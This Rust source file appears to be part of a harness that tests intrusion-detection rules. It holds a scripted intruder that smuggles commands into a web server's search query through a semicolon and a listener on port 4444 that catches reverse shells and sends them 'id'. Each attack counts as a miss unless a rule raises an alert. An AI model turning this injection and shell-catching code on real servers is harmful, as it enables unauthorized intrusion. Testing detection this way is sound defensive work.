//! The scripted intruder: speaks to the web server's hole, and listens for shells that call home.

use std::io::{self, Read as _, Write as _};
use std::sync::Arc;

use super::acts::{self, Act, Ground};
use super::report::Report;
use crate::fargate::backend::{Opening, Stream};
use crate::fargate::task::Task;
use crate::pace::Deadline;

/// The opening at which shells call home.
pub(super) const HEADQUARTERS: &str = "headquarters";

/// The web server's port.
const PORT: u16 = 8080;

/// What a shell that calls home is told.
const ORDERS: &[u8] = b"id\nexit\n";

/// Where the intruder waits for shells.
pub(super) fn headquarters(report: &Arc<Report>) -> Opening {
    let report = Arc::clone(report);
    Opening {
        name: HEADQUARTERS.to_owned(),
        address: "127.0.0.1:4444".to_owned(),
        handler: Arc::new(move |shell: &mut dyn Stream| {
            let mut answer = String::new();
            let told = shell
                .write_all(ORDERS)
                .and_then(|()| shell.read_to_string(&mut answer));
            if told.is_ok() {
                report.note(&format!("a shell called home: {}", answer.trim()));
            }
        }),
    }
}

/// Does everything that the ground allows.
pub(super) fn act(task: &Task, ground: &Ground, report: &Arc<Report>) {
    for act in acts::all(ground) {
        match &act.script {
            Err(reason) => report.skip(act.title, reason),
            Ok(script) => carry_out(task, &act, script, report),
        }
    }
}

fn carry_out(task: &Task, act: &Act, script: &str, report: &Arc<Report>) {
    report.act(act.title);
    let before = report.count(act.rule);
    if let Err(error) = exploit(task, script) {
        report.miss(
            act.title,
            &format!("the web server did not answer: {error}"),
        );
        return;
    }
    let seen = Deadline::after(super::PATIENCE / 4)
        .poll(|| (report.count(act.rule) > before).then_some(()));
    if seen.is_none() {
        report.miss(act.title, &format!("no alert of the rule `{}`", act.rule));
    }
}

/// Sends the script through the search form and returns what the server answers.
fn exploit(task: &Task, script: &str) -> io::Result<String> {
    let mut server = task.connect(PORT)?;
    let query = encoded(&format!("x; {script}"));
    write!(
        server,
        "GET /search?q={query} HTTP/1.1\r\nhost: web\r\n\r\n"
    )?;
    let mut answer = Vec::new();
    server.read_to_end(&mut answer)?;
    Ok(String::from_utf8_lossy(&answer).into_owned())
}

fn encoded(text: &str) -> String {
    let mut query = String::new();
    for byte in text.bytes() {
        if byte.is_ascii_alphanumeric() {
            query.push(char::from(byte));
        } else {
            let digit = |value: u8| char::from_digit(u32::from(value), 16).unwrap_or('0');
            query.extend(['%', digit(byte >> 4), digit(byte & 15)]);
        }
    }
    query
}

#[cfg(test)]
mod tests {
    use super::encoded;

    #[test]
    fn scripts_fit_into_a_request_line() {
        assert_eq!(encoded("x; id"), "x%3b%20id");
    }
}
